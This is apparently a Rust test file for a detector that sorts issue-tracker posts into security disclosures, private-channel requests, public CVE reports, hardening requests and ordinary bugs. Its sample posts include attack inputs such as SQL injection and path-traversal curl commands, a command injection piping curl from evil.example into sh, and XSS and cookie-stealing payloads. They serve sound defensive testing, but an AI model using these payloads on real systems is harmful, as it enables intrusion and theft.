//! Posts as they come, and what the detector must say of them.

use crate::domain::detector::{ACT_AT, Detector, Judgement, Place, REPLY_AT, builtin};
use crate::domain::intake::IntakeClass::{self, AsksChannel, Disclosure, Hardening, KnownPublic, Ordinary};

fn judge(title: &str, body: &str) -> Judgement {
    builtin().judge(title, body)
}

/// Of the class, and firmly enough to be hidden.
fn hidden(title: &str, body: &str) {
    let judgement = judge(title, body);
    let told = (judgement.class, judgement.score());
    assert!(judgement.class == Disclosure && judgement.score() >= ACT_AT, "{title:?}: {told:?}");
}

/// Of the class, and left alone.
fn left_alone(class: IntakeClass, title: &str, body: &str) {
    let judgement = judge(title, body);
    let told = (judgement.class, judgement.score());
    assert!(judgement.class == class && judgement.score() < REPLY_AT, "{title:?}: {told:?}");
}

/// Firmly asks for a private channel.
fn asks(title: &str, body: &str) {
    let judgement = judge(title, body);
    let told = (judgement.class, judgement.score());
    assert!(judgement.class == AsksChannel && judgement.score() >= ACT_AT, "{title:?}: {told:?}");
}

#[test]
fn exploit_steps_are_hidden() {
    hidden(
        "SQL injection in the search endpoint",
        "The `q` parameter of `/api/search` goes into the query without escaping.\n\n\
         ## Steps\n1. Start the server\n2. Run\n```\n\
         curl 'http://localhost:8080/api/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--'\n```\n\
         3. All password hashes come back.\n\nAn attacker can read the whole database without logging in.",
    );
    hidden(
        "Order export leaks every customer's invoices",
        "Change the number in `/invoices/1001.pdf` to any other number and you get somebody else's invoice. There is \
         no ownership check, so any logged-in user can download all of them. Classic IDOR.",
    );
    hidden(
        "heap-buffer-overflow when parsing a crafted GIF",
        "Found by fuzzing. The attached file crashes the decoder, and an attacker could probably run code with it.\n\
         ```\n==71==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602000000a10\nWRITE of size 4 at \
         0x602000000a10 thread T0\n    #0 0x4c1 in read_block gif.c:210\n```",
    );
}

#[test]
fn a_bland_title_over_a_full_exploit_is_hidden() {
    hidden(
        "Question about upload handling",
        "Hi, I was playing with the upload route and saw something odd. If I send this:\n\n```\n\
         curl -F 'file=@x.txt;filename=../../../../etc/cron.d/x' http://localhost:3000/upload\n```\n\n\
         the file ends up outside of the upload folder. The file name is not sanitized, so an attacker who can upload \
         can overwrite any file on the server and get remote code execution (path traversal). Version 2.3.1, default \
         settings. Is that intended?",
    );
}

#[test]
fn whoever_asks_for_a_private_contact_asks_for_the_channel() {
    asks(
        "Security contact?",
        "Hello, I think I have found a security problem and would rather not describe it here in public. Where can I \
         report it privately?",
    );
    asks(
        "Please enable private vulnerability reporting",
        "I'd like to report a vulnerability responsibly but there is no SECURITY.md and private reporting is disabled.",
    );
    asks(
        "Security address bounces",
        "I tried to report a security issue to security@example.org, but my mail bounced: address not found. Is there \
         another private channel?",
    );
    let title_alone = judge("How do I report a security vulnerability?", "");
    assert_eq!(title_alone.class, AsksChannel);
    assert!(title_alone.score() >= REPLY_AT);
}

#[test]
fn a_scanner_s_report_about_a_dependency_is_public_knowledge() {
    left_alone(
        KnownPublic,
        "Trivy reports CVE-2024-12345 in the image",
        "Trivy scan of the latest image:\n\n| Library | Vulnerability | Severity | Installed Version | Fixed Version |\n\
         |---|---|---|---|---|\n| openssl | CVE-2024-12345 | HIGH | 3.0.1 | 3.0.9 |\n\
         | zlib | CVE-2023-4444 | CRITICAL | 1.2.11 | 1.2.13 |\n\nPlease upgrade the dependencies.",
    );
    left_alone(
        KnownPublic,
        "Bump lodash from 4.17.15 to 4.17.21",
        "Bumps lodash. The new version fixes a prototype pollution, CVE-2020-8203.",
    );
    left_alone(KnownPublic, "Are we affected by log4shell?", "Does any module use log4j with CVE-2021-44228?");
}

#[test]
fn a_wish_for_more_defence_is_hardening() {
    left_alone(
        Hardening,
        "Please add rate limiting to the login form",
        "It would be nice to have rate limiting on login, a Content-Security-Policy header and 2FA as hardening.",
    );
    left_alone(Hardening, "Add a CSP header", "");
    left_alone(Hardening, "Support two-factor authentication", "Please support TOTP.");
}

#[test]
fn an_ordinary_bug_full_of_security_words_is_ordinary() {
    left_alone(
        Ordinary,
        "Login form: password field overlaps the token input",
        "On small screens the CSS of the login form is broken. The password field overlaps the box for the security \
         token, and the layout jumps after a token refresh.\n\nSteps: open the login page on a phone.",
    );
    left_alone(
        Ordinary,
        "Flaky test: token refresh",
        "`test_token_refresh` fails about once in ten CI runs with 401 Unauthorized. The clock is not frozen.",
    );
    left_alone(
        Ordinary,
        "Password reset mail: layout broken in Outlook",
        "The button in the password reset mail is not centred in Outlook.",
    );
    left_alone(Ordinary, "NullInjectorError: no provider for injection token", "Since the upgrade, DI fails in tests.");
    left_alone(
        Ordinary,
        "Windows Defender says the installer is a trojan",
        "Virustotal shows 2 of 60. False positive?",
    );
    left_alone(Ordinary, "Export hangs", "The export hangs when the name of the project has a space.");
}

#[test]
fn a_fix_that_says_what_was_exploitable_is_hidden_as_text() {
    hidden(
        "Escape user-controlled names in the profile page",
        "The display name was put into the page unescaped: a stored XSS which allowed any user to run script in the \
         session of whoever looks at the profile. This escapes it.",
    );
    let judgement = judge("fix: prevent path traversal in archive extraction", "");
    assert_eq!(judgement.class, Disclosure);
    assert!(judgement.score() >= REPLY_AT);
}

#[test]
fn a_maintainer_s_own_ticket_is_a_disclosure_as_text() {
    hidden(
        "Session tokens of other tenants are readable through /debug",
        "The debug endpoint does not check the tenant. Any authenticated user can read the session tokens of every \
         other tenant and take over their accounts. We need to fix this before the next release.",
    );
}

#[test]
fn an_edit_that_adds_an_exploit_turns_a_harmless_issue_into_a_disclosure() {
    let before = "The export hangs when the name of the project has a space.";
    left_alone(Ordinary, "Export hangs", before);
    let after = format!(
        "{before}\n\nUpdate: it is worse. The name is passed to the shell without escaping, so this is a command \
         injection: an attacker who may name a project gets remote code execution on the server. A project named \
         `x; curl http://evil.example/a | sh` executes the command:\n\n```\n\
         curl -X POST http://localhost/projects -d 'name=x; touch /tmp/pwned'\n```"
    );
    hidden("Export hangs", &after);
}

#[test]
fn a_comment_has_no_title_and_may_disclose_all_the_same() {
    hidden(
        "",
        "By the way, this is also exploitable: the `next` parameter is not validated, so \
         `https://app.example/login?next=javascript:alert(document.cookie)` runs JavaScript of an attacker in the \
         session of the victim.",
    );
    left_alone(Ordinary, "", "+1, same here with version 3.2 on Windows.");
}

#[test]
fn a_title_alone_may_disclose() {
    hidden("Stored XSS in comments", "");
    let judgement = judge("Remote code execution via crafted YAML file", "");
    assert_eq!(judgement.class, Disclosure);
    assert!(judgement.score() >= REPLY_AT);
}

#[test]
fn misspelt_and_non_native_words_are_understood() {
    hidden(
        "A big security hole of your website",
        "Hello dear, I am found a vulnerabilty in your login. When user put ' or 1=1 -- in username, he can login \
         without password as admin. Please fix fast.",
    );
}

#[test]
fn other_languages_have_an_insurance() {
    hidden("后台存在SQL注入漏洞", "攻击者可以通过 id 参数进行SQL注入。");
    hidden("Vulnerabilidad de inyección SQL", "Un atacante puede leer toda la base de datos sin autenticación.");
    for (title, body) in [
        ("Sicherheitslücke im Login", "Ein Angreifer kann sich ohne Passwort anmelden."),
        ("Faille de sécurité", "N'importe quel utilisateur peut lire les fichiers des autres sans authentification."),
        ("Vulnerabilidade no login", "Um atacante pode entrar sem autenticação."),
        ("Уязвимость: обход авторизации", "Злоумышленник может войти без пароля."),
        ("脆弱性: 認証を回避できます", "攻撃者は任意のコードを実行できます。"),
        ("취약점: 인증 우회", "공격자가 원격 코드 실행을 할 수 있습니다."),
    ] {
        let score = judge(title, body).score();
        assert!(score >= REPLY_AT, "{title:?}: {score}");
    }
}

#[test]
fn our_own_neutral_texts_and_empty_posts_are_ordinary() {
    for (title, body) in [
        ("", ""),
        ("   ", "\n\n"),
        ("Moved to private", "_Moved to private._"),
        ("This post was moved", "This post was moved. Security reports are handled in private."),
        ("Hello", "<!-- describe the vulnerability and how an attacker can exploit it -->"),
    ] {
        left_alone(Ordinary, title, body);
    }
}

#[test]
fn a_template_that_says_security_in_every_field_is_no_signal() {
    left_alone(
        Ordinary,
        "Sidebar is too wide",
        "### Describe the bug\nThe sidebar covers the page.\n\n### Security impact\nNone\n\n### Security checklist\n\
         - [x] This is not a security vulnerability\n- [x] I have searched existing issues\n\
         <!-- Vulnerabilities such as SQL injection or XSS: do not post exploits here! -->",
    );
}

#[test]
fn reasons_are_plain_words_strongest_first_and_never_the_post_s() {
    let judgement = judge(
        "Stored XSS in the zebrafish widget",
        "An attacker can run `<script>alert(1)</script>` by naming a zebrafish so.",
    );
    assert!(!judgement.contributions.is_empty());
    let strengths: Vec<f64> = judgement.contributions.iter().map(|reason| reason.weight.abs()).collect();
    assert!(strengths.is_sorted_by(|a, b| a >= b), "{strengths:?}");
    for reason in &judgement.contributions {
        assert!(!reason.text.is_empty() && !reason.text.contains("zebrafish"), "{reason:?}");
    }
    assert!(judgement.contributions.iter().any(|reason| reason.place == Place::Code && reason.weight > 0.0));
}

#[test]
fn the_same_post_gets_the_same_judgement() {
    let post = ("SQL injection", "An attacker can read any table.");
    assert_eq!(judge(post.0, post.1), judge(post.0, post.1));
    assert_eq!(builtin().version(), "linear-2");
}
